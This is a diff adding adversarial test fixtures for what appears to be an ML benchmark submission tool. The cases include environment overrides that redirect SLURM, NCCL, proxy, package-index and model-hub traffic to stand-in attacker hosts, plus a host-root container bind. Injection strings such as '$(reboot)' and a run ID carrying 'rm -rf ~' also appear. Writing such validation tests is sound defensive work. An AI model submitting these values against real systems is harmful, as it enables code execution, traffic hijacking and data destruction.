@@ -113,6 +113,10 @@ OVERRIDES: dict[str, list[str]] = {
     "ov-deep-path": [".".join(["model"] + ["x"] * 200) + "=1"],
     "ov-too-many": [f"model.num_layers={i % 7 + 1}" for i in range(2_000)],
     "ov-layout-huge": ["model.pipeline_model_parallel_layout=E(t|)*99999999999L"],
+    "ov-env-slurm-rendezvous": ["env.SLURM_JOB_NODELIST=attacker.example.com",
+                                "env.SLURM_JOB_NUM_NODES=2"],
+    "ov-env-medium-names": ["env.TMP=/tmp/x", "env.UV_INDEX_URL=https://evil",
+                            "env.https_proxy=http://evil:3128", "env.PET_MASTER_ADDR=evil"],
 }
 
 # name → perf-harness flags (CLI after --, MCP perf_flags)
@@ -145,6 +149,20 @@ TOOL_ARGS: dict[str, tuple[str, dict[str, Any]]] = {
     "env-hook-submit": ("submit_benchmark", {
         "config": {"preset": "llama3-8b", "overrides": ["env.BASH_ENV=$(touch ./pwned)"]},
         "profile": "cpu-test", "dry_run": False}),
+    "env-slurm-rendezvous-submit": ("submit_benchmark", {
+        "config": {"preset": "llama3-8b", "overrides": [
+            "env.SLURM_JOB_NODELIST=attacker.example.com", "env.SLURM_JOB_NUM_NODES=2"]},
+        "profile": "cpu-test", "dry_run": False}),
+    "env-slurm-prolog-submit": ("submit_benchmark", {
+        "config": {"bridge_config": {"env_vars": {"SLURM_TASK_PROLOG": "/tmp/x.sh"}}},
+        "profile": "cpu-test", "dry_run": False}),
+    "env-triton-manager-submit": ("submit_benchmark", {
+        "config": {"preset": "llama3-8b", "overrides": ["env.TRITON_CACHE_MANAGER=os:system"]},
+        "profile": "cpu-test"}),
+    "env-nccl-ifname-submit": ("submit_benchmark", {
+        "config": {"preset": "llama3-8b", "overrides": ["env.NCCL_SOCKET_IFNAME=evil0",
+                                                        "env.NCCL_COMM_ID=evil:1"]},
+        "profile": "cpu-test"}),
     "run-id-injection": ("benchmark_status", {"run_id": "x'; rm -rf ~; echo '"}),
     "run-id-unknown": ("benchmark_result", {"run_id": "0123456789abcdef"}),
     "wait-huge": ("benchmark_status", {"run_id": "0123456789abcdef", "wait_s": 1e9}),
@@ -208,5 +226,11 @@ CLI_ARGS: dict[str, list[str]] = {
                            "H100", "--seq", "4096", "--gbs", "8"],
     "cli-plan-gpu-unknown": ["plan", "--preset", "llama3-8b", "--gpus", "8", "--gpu",
                              "$(reboot)", "--seq", "4096", "--gbs", "8"],
+    "cli-env-slurm-rendezvous": ["bench", "submit", "--preset", "llama3-8b", "--profile",
+                                 "cpu-test", "--set", "env.SLURM_JOB_NODELIST=attacker.example.com",
+                                 "--set", "env.SLURM_JOB_NUM_NODES=2", "--run"],
+    "cli-env-hf-endpoint": ["bench", "submit", "--preset", "llama3-8b", "--profile", "cpu-test",
+                            "--set", "env.HF_ENDPOINT=https://evil", "--set",
+                            "env.APPTAINER_BIND=/:/host"],
     "cli-mcore-unknown": ["validate", "--preset", "llama3-8b", "--mcore-version", "9.9"],
 }
